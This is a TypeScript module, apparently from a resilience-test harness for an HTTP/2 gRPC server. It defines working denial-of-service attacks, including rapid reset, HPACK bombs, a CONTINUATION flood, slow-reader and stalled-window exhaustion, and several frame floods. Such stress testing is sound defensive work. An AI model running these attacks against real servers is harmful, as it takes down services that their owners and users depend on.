import { setTimeout as pause, setImmediate as turn } from 'node:timers/promises';
import {
  continuationFrame,
  dataFrame,
  frameOf,
  grpcHeadersFrame,
  headerBlock,
  headerBlockFrame,
  pingFrame,
  prefaceAndSettings,
  priorityFrame,
  requestFields,
  resetFrame,
  settingsAckFrame,
  settingsFrame,
  windowUpdateFrame,
} from '../test/support/h2-frames.js';
import { Attacker, persistently } from './attacker.js';
import { STRESS_PATHS } from './stress-target.js';

export interface Attack {
  readonly name: string;
  /** Attacks for about so long and leaves without a trace. Returns what it did, in a few words. */
  run(address: string, seconds: number): Promise<string>;
}

const INITIAL_WINDOW_SIZE = 4;
const MAX_WINDOW = 2 ** 31 - 1;
const EMPTY = Buffer.alloc(0);
const STREAMS = 500;
const GREETING = Buffer.concat([prefaceAndSettings(), settingsAckFrame()]);
const OPEN_WINDOWS = Buffer.concat([settingsFrame([INITIAL_WINDOW_SIZE, MAX_WINDOW]), windowUpdateFrame(0, MAX_WINDOW - 65_535)]);

function times(count: number, bytes: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => bytes(index)));
}

function idOf(index: number): number {
  return 2 * index + 1;
}

/** The prefix of a gRPC message of so many bytes. */
function promise(bytes: number): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes, 1);
  return prefix;
}

function request(streamId: number, path: string): Buffer {
  return Buffer.concat([grpcHeadersFrame(streamId, path), dataFrame(streamId, promise(0), true)]);
}

/** Several connections that are told the same and stay. */
async function hold(address: string, connections: number, bytes: Buffer, isReading = true): Promise<AttackerGroup> {
  const attackers: Attacker[] = [];
  for (let at = 0; at < connections; at++) {
    const attacker = await Attacker.connect(address, isReading);
    await attacker.send(Buffer.concat([GREETING, bytes]));
    attackers.push(attacker);
  }
  return new AttackerGroup(attackers);
}

class AttackerGroup implements Disposable {
  readonly attackers: readonly Attacker[];

  constructor(attackers: readonly Attacker[]) {
    this.attackers = attackers;
  }

  get left(): number {
    return this.attackers.filter(({ isOut }) => !isOut).length;
  }

  [Symbol.dispose](): void {
    for (const attacker of this.attackers) attacker[Symbol.dispose]();
  }
}

/** Half of them through the socket, half through HTTP/2's windows: some 4 KB a second each. */
const slowReader: Attack = {
  name: 'slow reader',
  async run(address, seconds) {
    const streams = times(64, (index) => request(idOf(index), STRESS_PATHS.endless));
    using sockets = await hold(address, 4, Buffer.concat([OPEN_WINDOWS, streams]), false);
    using windows = await hold(address, 4, streams);
    let bytes = 0;
    for (const end = performance.now() + seconds * 1000; performance.now() < end; ) {
      for (const { socket } of sockets.attackers) bytes += (socket.read(1_024) as Buffer | null)?.length ?? 0;
      for (const attacker of windows.attackers)
        await attacker.send(Buffer.concat([windowUpdateFrame(1, 1_024), windowUpdateFrame(0, 1_024)]));
      await pause(250);
    }
    return `512 streams on 8 connections, ${sockets.left + windows.left} held; read ${bytes} bytes from 4 sockets`;
  },
};

const slowWriter: Attack = {
  name: 'slow writer',
  async run(address, seconds) {
    const begin = (index: number): Buffer =>
      Buffer.concat([grpcHeadersFrame(idOf(index), STRESS_PATHS.echo), dataFrame(idOf(index), promise(10_000 + index), false)]);
    using group = await hold(address, 2, times(STREAMS / 2, begin));
    let bytes = 0;
    for (const end = performance.now() + seconds * 1000; performance.now() < end; ) {
      for (const attacker of group.attackers) {
        await attacker.send(times(STREAMS / 2, (index) => dataFrame(idOf(index), Buffer.from('x'), false)));
        bytes += STREAMS / 2;
      }
      await pause(50);
    }
    return `${STREAMS} streams on 2 connections, ${bytes} bytes, one a frame`;
  },
};

const promises: Attack = {
  name: 'large messages promised',
  async run(address, seconds) {
    const begin = (index: number): Buffer =>
      Buffer.concat([
        grpcHeadersFrame(idOf(index), STRESS_PATHS.echo),
        dataFrame(idOf(index), Buffer.concat([promise(60 << 20), Buffer.from('x')]), false),
      ]);
    using group = await hold(address, 2, times(STREAMS, begin));
    await pause(seconds * 1000);
    return `${2 * STREAMS} streams, a byte of 60 MiB on each; ${group.left} connections held`;
  },
};

const stalledWindow: Attack = {
  name: 'stalled window',
  async run(address, seconds) {
    const streams = times(STREAMS, (index) => request(idOf(index), STRESS_PATHS.large));
    using group = await hold(address, 1, Buffer.concat([settingsFrame([INITIAL_WINDOW_SIZE, 0]), streams]));
    await pause(seconds * 1000);
    return `${STREAMS} answers of 64 KiB asked for; ${group.left} connection held`;
  },
};

const halfOpen: Attack = {
  name: 'half-open streams',
  async run(address, seconds) {
    using group = await hold(
      address,
      8,
      times(STREAMS, (index) => grpcHeadersFrame(idOf(index), STRESS_PATHS.echo)),
    );
    await pause(seconds * 1000);
    return `${8 * STREAMS} streams of headers alone; ${group.left} connections held`;
  },
};

/** What a connection has said when it is dropped. */
const LAST_WORDS: readonly Buffer[] = [
  EMPTY,
  GREETING.subarray(0, 10),
  GREETING,
  Buffer.concat([GREETING, pingFrame().subarray(0, 11)]),
  Buffer.concat([GREETING, headerBlockFrame(1, headerBlock(requestFields(STRESS_PATHS.echo)), { endHeaders: false })]),
  Buffer.concat([GREETING, grpcHeadersFrame(1, STRESS_PATHS.echo), dataFrame(1, promise(1_000), false)]),
  Buffer.concat([GREETING, request(1, STRESS_PATHS.endless)]),
];

/** At a pace that does not keep a core busy with accepting alone: 10,000 in twice the time of the other attacks. */
const droppedConnections: Attack = {
  name: '10,000 connections dropped',
  async run(address, seconds) {
    const total = 10_000;
    const start = performance.now();
    const perMs = total / (2 * seconds * 1000);
    const drop = async (index: number): Promise<void> => {
      using attacker = await Attacker.connect(address);
      await attacker.send(LAST_WORDS[index % LAST_WORDS.length] ?? EMPTY);
      await pause(5);
      if (index % 2 === 0) attacker.socket.destroy();
    };
    const open: Promise<void>[] = [];
    while (open.length < total) {
      const due = Math.min(total, (performance.now() - start) * perMs);
      while (open.length < due) open.push(drop(open.length));
      await pause(2);
    }
    await Promise.all(open);
    return `${total} in ${((performance.now() - start) / 1000).toFixed(1)} s`;
  },
};

/** The same bytes for as long as they are taken, on four connections at once. */
function flood(name: string, batch: (round: number) => Buffer, opening: Buffer = EMPTY): Attack {
  return {
    name,
    async run(address, seconds) {
      let bytes = 0;
      const ended = await persistently(4, seconds, address, async (attacker, isOver) => {
        await attacker.send(Buffer.concat([GREETING, opening]));
        for (let round = 0; !isOver(); round++) {
          const next = batch(round);
          bytes += next.length;
          await attacker.send(next);
          await turn();
        }
      });
      return `${(bytes / 1e6).toFixed(1)} MB sent, thrown out ${ended} times`;
    },
  };
}

const HALF_OPEN = grpcHeadersFrame(1, STRESS_PATHS.echo);
const BATCH = 500;

function constant(bytes: Buffer): () => Buffer {
  return () => bytes;
}

const rapidReset = flood('rapid reset', (round) =>
  times(BATCH, (index) => {
    const id = idOf(round * BATCH + index);
    return Buffer.concat([grpcHeadersFrame(id, STRESS_PATHS.echo), resetFrame(id, 8)]);
  }),
);

/** A table entry of 4,000 bytes, and blocks that name it as often as a frame has room for. */
const TABLE_ENTRY = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), Buffer.from([127, 0xa1, 0x1e]), Buffer.alloc(4_000, 'y')]);
const BOMB = Buffer.concat([headerBlock(requestFields(STRESS_PATHS.echo)), Buffer.alloc(16_000, 0xbe)]);

const hpackBombs = flood(
  'HPACK bombs',
  (round) => times(8, (index) => headerBlockFrame(idOf(round * 8 + index + 1), BOMB, { endStream: true })),
  headerBlockFrame(1, TABLE_ENTRY, { endStream: true }),
);

const continuations = flood(
  'CONTINUATION flood',
  constant(times(BATCH, () => continuationFrame(1, EMPTY, false))),
  headerBlockFrame(1, EMPTY, { endHeaders: false }),
);

/** How much of an answer the systems between take before any of it waits in the server is not known: one of these is a little more than that. */
const UNREAD_BYTES = [2, 2.5, 3, 3.5, 4, 4.5, 5, 5.5, 6, 6.5].map((mebibytes) => mebibytes * 1024 * 1024);

/** Does not read, and has an acknowledgement written to it in as many turns of the server's loop as can be, each of which should hold no more than its bytes. */
const unreadAnswers: Attack = {
  name: 'never reads',
  async run(address, seconds) {
    const open = (bytes: number): Buffer =>
      Buffer.concat([settingsFrame([INITIAL_WINDOW_SIZE, MAX_WINDOW]), windowUpdateFrame(0, bytes), request(1, STRESS_PATHS.endless)]);
    const groups = await Promise.all(UNREAD_BYTES.map((bytes) => hold(address, 1, open(bytes), false)));
    await pause(200);
    let pings = 0;
    for (const end = performance.now() + seconds * 1000; performance.now() < end; await pause(1)) {
      for (const { attackers } of groups) for (const attacker of attackers) void attacker.send(pingFrame());
      pings += groups.length;
    }
    const left = groups.reduce((sum, group) => sum + group.left, 0);
    for (const group of groups) group[Symbol.dispose]();
    return `${pings} PINGs on ${groups.length} connections, ${left} held`;
  },
};

export const ATTACKS: readonly Attack[] = [
  slowReader,
  slowWriter,
  promises,
  stalledWindow,
  halfOpen,
  droppedConnections,
  unreadAnswers,
  rapidReset,
  flood('PING flood', constant(times(BATCH, () => pingFrame()))),
  flood('SETTINGS flood', constant(times(BATCH, (index) => settingsFrame([INITIAL_WINDOW_SIZE, 65_535 + (index % 2)])))),
  continuations,
  hpackBombs,
  flood('empty DATA flood', constant(times(BATCH, () => dataFrame(1, EMPTY, false))), HALF_OPEN),
  flood('WINDOW_UPDATE flood', constant(times(BATCH, () => windowUpdateFrame(1, 1))), HALF_OPEN),
  flood('PRIORITY flood', constant(times(BATCH, (index) => priorityFrame(idOf(index), 0)))),
  flood('unknown frames', constant(times(BATCH, () => frameOf(0xee, 0, 0, EMPTY)))),
];
